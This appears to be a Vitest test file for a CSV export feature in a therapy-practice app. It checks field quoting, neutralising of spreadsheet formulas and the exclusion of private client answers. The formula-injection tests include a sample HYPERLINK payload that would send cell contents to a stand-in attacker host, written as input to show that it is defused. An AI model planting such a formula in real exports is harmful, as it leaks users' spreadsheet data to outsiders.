import { describe, expect, it } from "vitest";
import { KEPT_PRIVATE, measurementsCsv, MEASUREMENTS_HEADER, submissionsCsv, SUBMISSIONS_HEADER } from "@/lib/exports/client-csv";
import { csvField, neutraliseFormula, toCsv } from "@/lib/exports/csv";
import type { ClientRecord } from "@/lib/exports/load-client-record";
import { builtIn, recordVersionOf } from "@/tests/support/export-fixtures";
import { parseCsv } from "@/tests/support/parse-csv";

describe("csvField (RFC 4180)", () => {
  it("leaves plain text alone", () => {
    expect(csvField("A calm evening")).toBe("A calm evening");
  });

  it("quotes fields with a comma, quote, CR or LF and doubles inner quotes", () => {
    expect(csvField("late, again")).toBe('"late, again"');
    expect(csvField('she said "fine"')).toBe('"she said ""fine"""');
    expect(csvField("line one\nline two")).toBe('"line one\nline two"');
    expect(csvField("line one\r\nline two")).toBe('"line one\r\nline two"');
    expect(csvField('"')).toBe('""""');
  });

  it("writes numbers as numbers and empty cells for null, undefined and non-finite numbers", () => {
    expect(csvField(7)).toBe("7");
    expect(csvField(0.5)).toBe("0.5");
    expect(csvField(-3)).toBe("-3");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField(Number.NaN)).toBe("");
    expect(csvField("")).toBe("");
  });
});

describe("formula injection", () => {
  it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\tindent", "\rreturn"])("prefixes a quote to text starting %j", (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it("leaves text that only contains those characters later alone", () => {
    expect(neutraliseFormula("a=b")).toBe("a=b");
    expect(neutraliseFormula("I felt 10/10 - awful")).toBe("I felt 10/10 - awful");
    expect(neutraliseFormula("'already quoted")).toBe("'already quoted");
  });

  it("neutralises before quoting, so the quote sits inside the quoted field", () => {
    const payload = '=HYPERLINK("https://evil.example/?"&A1, "Open")';
    const written = csvField(payload);
    expect(written).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1, ""Open"")"`);
    expect(parseCsv(`${written}\r\n`)).toEqual([[`'${payload}`]]);
    // A leading CR is neutralised and, being a line break, quoted as well.
    expect(csvField("\r=1+1")).toBe(`"'\r=1+1"`);
  });
});

describe("toCsv", () => {
  it("ends every record with CRLF and reads back cell for cell", () => {
    const rows = [
      ["plain", "with, comma", 'with "quotes"'],
      ["multi\nline\r\nanswer", "", 4.25],
    ];
    const text = toCsv(["a", "b", "c"], rows);
    expect(text).toBe('a,b,c\r\nplain,"with, comma","with ""quotes"""\r\n"multi\nline\r\nanswer",,4.25\r\n');
    expect(parseCsv(text)).toEqual([
      ["a", "b", "c"],
      ["plain", "with, comma", 'with "quotes"'],
      ["multi\nline\r\nanswer", "", "4.25"],
    ]);
  });

  it("writes only the header when there are no rows", () => {
    expect(toCsv(["Date", "Metric", "Value"], [])).toBe("Date,Metric,Value\r\n");
  });
});

const letterToYoungerSelf = builtIn("letter-to-younger-self");
const weeklyTrustCheckIn = builtIn("weekly-trust-check-in");
const iStatementBuilder = builtIn("i-statement-builder");

const MARKER = "PRIVATE-csv-unit-marker";

const record: ClientRecord = {
  client: { id: "client-1", displayName: "Sam Example", timeZone: "Europe/London", practiceId: "practice-1" },
  practitioner: { id: "therapist-1", name: "Alex Therapist" },
  versions: [recordVersionOf(letterToYoungerSelf, "v-letter", 3), recordVersionOf(weeklyTrustCheckIn, "v-check", 3), recordVersionOf(iStatementBuilder, "v-script", 3)],
  submissions: [
    {
      id: "sub-letter",
      versionId: "v-letter",
      dueOn: "2026-03-10",
      submittedAt: new Date("2026-03-10T21:15:00Z"),
      // The loader never selects private text; this proves the writer would not print it even if it did.
      answers: { letter: MARKER, how_it_felt: "=1+1, oddly calm" },
      privateKeys: ["letter"],
    },
    {
      id: "sub-check",
      versionId: "v-check",
      dueOn: "2026-03-11",
      submittedAt: new Date("2026-03-11T08:00:00Z"),
      answers: { predictability: 6, reliability: 7, emotional_safety: 5, worry: 4, times_checked: 3 },
      privateKeys: [],
    },
    {
      id: "sub-script",
      versionId: "v-script",
      dueOn: "2026-03-12",
      submittedAt: new Date("2026-03-12T10:30:00Z"),
      answers: { statement: { emotion: "anxious", situation: "you are late", reason: "I worry", request: "a text" } },
      privateKeys: [],
    },
  ],
  measurements: [
    { recordedOn: "2026-03-11", metric: "weekly-trust-check-in.predictability", value: 6 },
    { recordedOn: "2026-03-11", metric: "micro-promises.kept", value: 0.5 },
  ],
};

describe("submissionsCsv", () => {
  const text = submissionsCsv(record);
  const [header, ...rows] = parseCsv(text);

  it("has one row per answered question with the submission's details", () => {
    expect(header).toEqual([...SUBMISSIONS_HEADER]);
    const letterRows = rows.filter((row) => row[0] === "sub-letter");
    expect(letterRows).toEqual([
      ["sub-letter", "Letter to my younger self", "3", "2026-03-10", "2026-03-10T21:15:00.000Z", "letter", letterToYoungerSelf.fields[0]!.label, KEPT_PRIVATE],
      ["sub-letter", "Letter to my younger self", "3", "2026-03-10", "2026-03-10T21:15:00.000Z", "how_it_felt", letterToYoungerSelf.fields[1]!.label, "'=1+1, oddly calm"],
    ]);
    expect(rows.filter((row) => row[0] === "sub-check").map((row) => row[5])).toEqual(weeklyTrustCheckIn.fields.map((field) => field.key));
  });

  it("never prints private text, and neutralises formulas typed by the client", () => {
    expect(text).not.toContain(MARKER);
    expect(text).toContain(`"'=1+1, oddly calm"`);
  });

  it("describes answers in words: scale anchors, filled-in scripts", () => {
    const answerOf = (id: string, key: string) => rows.find((row) => row[0] === id && row[5] === key)?.[7];
    expect(answerOf("sub-check", "predictability")).toMatch(/^6 of 10 \(0 = .+, 10 = .+\)$/);
    expect(answerOf("sub-script", "statement")).toContain("anxious");
    expect(answerOf("sub-script", "statement")).toContain("you are late");
  });
});

describe("measurementsCsv", () => {
  it("lists date, metric and value as written", () => {
    expect(parseCsv(measurementsCsv(record))).toEqual([
      [...MEASUREMENTS_HEADER],
      ["2026-03-11", "weekly-trust-check-in.predictability", "6"],
      ["2026-03-11", "micro-promises.kept", "0.5"],
    ]);
  });
});
